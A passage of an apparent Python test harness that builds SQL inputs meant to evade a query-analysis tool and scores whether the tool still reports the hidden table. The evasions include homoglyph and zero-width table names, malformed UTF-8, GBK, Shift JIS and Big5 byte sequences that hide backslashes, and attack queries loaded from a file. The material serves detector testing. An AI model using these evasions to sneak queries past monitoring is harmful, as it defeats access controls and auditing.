    for odd in ("us\u0435r_ip_log", "user_\u0456p_log", "user_ip_l\u043eg", "\uff55ser_ip_log", "user\u200b_ip_log", "user_ip_log\u200d", "u\u0308ser_ip_log", "user_\u0131p_log"):
        add("homoglyph", [d for d in ALL if d not in ("tsql", "bigquery") and (odd.isprintable() or d in ("postgres", "mysql", "sqlite"))],
            f"SELECT ip FROM {odd}", [odd], forbid=[T], exact=odd.isprintable() and "\u0308" not in odd)
    around("not ASCII", [d for d in ALL if d != "bigquery"], "donn\u00e9es", "donn\u00e9es", "sji")
    around("not ASCII", ["postgres", "mysql", "sqlite", "duckdb", "oracle", "tsql"], "\u7528\u6237", "\u7528\u6237", "sjd")
    around("upper case beyond ASCII is kept", ["sqlite"], "\u00c9T\u00c9", "\u00c9t\u00c9", "s")
    around("emoji", ["postgres", "mysql", "sqlite", "duckdb"], "\U0001F600", "\U0001F600", "sj")


def encodings():
    """Raw bytes in the line: other encodings than UTF-8."""
    soft = dict(exact=False, tables=[T])
    for raw in (b"\xe9", b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80"):
        for d in ("postgres", "mysql", "sqlite", "tsql", "oracle", "ansi"):
            add("bad UTF-8 in a string", d, b"SELECT '" + raw + b"' FROM user_ip_log", **soft)
            add("bad UTF-8 in a comment", d, b"SELECT 1 /* " + raw + b" */ FROM user_ip_log", **soft)
            add("bad UTF-8 in a name beside it", d, b"SELECT * FROM caf" + raw + b", user_ip_log", **soft)
    add("GBK: backslash as a second byte", ["mysql", "mariadb"], b"SELECT '\xbf\x5c' FROM user_ip_log -- '", **soft)
    add("GBK: backslash as a second byte", ["mysql", "mariadb"], b"SELECT '\xbf\x5c\\', ip FROM user_ip_log -- '", **soft)
    add("Shift JIS: backslash as a second byte", ["mysql", "postgres"], b"SELECT '\x95\x5c' FROM user_ip_log WHERE a = '\x83\x5c'", **soft)
    add("Big5: backquote as a second byte", ["mysql"], b"SELECT `\xa4\x60` FROM user_ip_log", **soft)
    add("Latin-1 name", ["mysql", "postgres", "sqlite"], b"SELECT * FROM donn\xe9es JOIN user_ip_log USING (id)", **soft)
    for codec in ("utf-16-le", "utf-16-be", "utf-16"):
        for d in ("postgres", "sqlite", "tsql", "ansi"):
            add("UTF-16", d, f"SELECT ip FROM {T}".encode(codec), certain=False, **soft)


def attacks():
    dialects = []
    for line in Path(__file__).with_name("attacks.txt").read_text().splitlines():
        if not line or line[0] == "#":
            continue
        if line[-1] == ":":
            dialects = line[:-1].split()
            continue
        sql = json.loads(line) if line[0] == '"' else line
        add("attack", dialects, sql, [], tables=[T], exact=False, certain=False, within=True)


def all_cases():
    for part in (quoting, escapes, letter_case, comments, white_space, keywords, padding, nesting, strings, ctes, many, dynamic, structure, lookalikes, encodings, attacks):
        part()
    return cases


def line_of(n, case):
    head = json.dumps({"id": n, "dialect": case.dialect, "sql": ""})[:-2].encode()
    if isinstance(case.sql, str):
        return head + json.dumps(case.sql)[1:].encode() + b"}\n"
    return head + b"".join(b"\\u%04x" % c if c < 32 or c in b'"\\' else bytes((c,)) for c in case.sql) + b'"}\n'


def named(answer):
    """Every relation the answer names, as written and by its last part; with how it was found."""
    names = {}
    for st in answer.get("statements", []):
        for r in st.get("relations", []):
            full = ".".join(r[k] for k in ("server", "catalog", "schema", "name") if r.get(k))
            for n in {full, r["name"]}:
                names.setdefault(n, r.get("via", "name"))
    for n in answer.get("reads", []) + answer.get("writes", []):
        names[n] = "name"
    for n in answer.get("possible", []):
        names.setdefault(n if isinstance(n, str) else n.get("name", ""), "lexical")
    return names


def judge(case, answer):
    """(hidden, forbidden, exact or None)"""
    names = named(answer)
    hidden = sorted(t for t in case.tables if t not in names and t.split(".")[-1] not in names)
    if case.within:
        hidden = [t for t in hidden if not any(t in n.lower() for n in names)]
    if case.certain is False and answer.get("certainty") != "parsed":
        hidden = []
    if case.constant and any(st.get("literals") for st in answer.get("statements", [])):
        hidden = []
    forbidden = sorted(case.forbid & (set(answer.get("reads", [])) | set(answer.get("writes", []))))
    exact = None
    if case.exact:
        exact = answer.get("reads") == case.reads and answer.get("writes") == case.writes
    return hidden, forbidden, exact


def show(case, answer, why):
    sql = case.sql if isinstance(case.sql, str) else repr(case.sql)
    sql = sql if len(sql) < 300 else sql[:150] + " ... " + sql[-100:]
    print(f"{why}: {case.kind} ({case.dialect}): {sql!r}\n    told {answer.get('certainty')} reads {str(answer.get('reads'))[:300]} writes {answer.get('writes')}, "
          f"touches {str(case.reads)[:300]} {case.writes}")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("program")
    p.add_argument("-v", action="store_true", help="show the answers that are not exact too")
    a = p.parse_args()
    all_cases()
    run = subprocess.run([a.program, "sql"], input=b"".join(line_of(n, c) for n, c in enumerate(cases)), stdout=subprocess.PIPE, timeout=300)
    answers = [json.loads(x.decode("utf-8", "replace")) for x in run.stdout.split(b"\n") if x]
    if run.returncode or len(answers) != len(cases):
        print(f"{a.program} sql: exit {run.returncode}, {len(answers)} answers to {len(cases)} evasions")
        print("0 passed, 1 failed")
        sys.exit(1)
    bad, exact, counted, still = 0, 0, 0, collections.Counter()
    for case, answer in zip(cases, answers):
        hidden, forbidden, ok = judge(case, answer)
        counted += ok is not None
        exact += ok is True
        if hidden or forbidden:
            still[case.kind, case.dialect] += 1
            bad += (case.kind, case.dialect) not in OPEN
            show(case, answer, f"HIDDEN {hidden}" if hidden else f"TAKEN FOR A TABLE {forbidden}")
        elif a.v and ok is False:
            show(case, answer, "not exact")
    share = 100 * exact / counted
    told = len(cases) - sum(still.values())
    print(f"| {len(cases)} evasions: {told} told, {len(cases) - told} not, {len(cases) - told - bad} of them known; {exact} of {counted} exact ({share:.2f} %)")
    for solved in sorted(OPEN - set(still)):
        bad += 1
        print(f"{solved} is told now: take it from the list of the open ones")
    if share < EXACT_FLOOR:
        bad += 1
        print(f"fewer exact than {EXACT_FLOOR} %")
    print(f"{len(cases) - bad} passed, {bad} failed")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
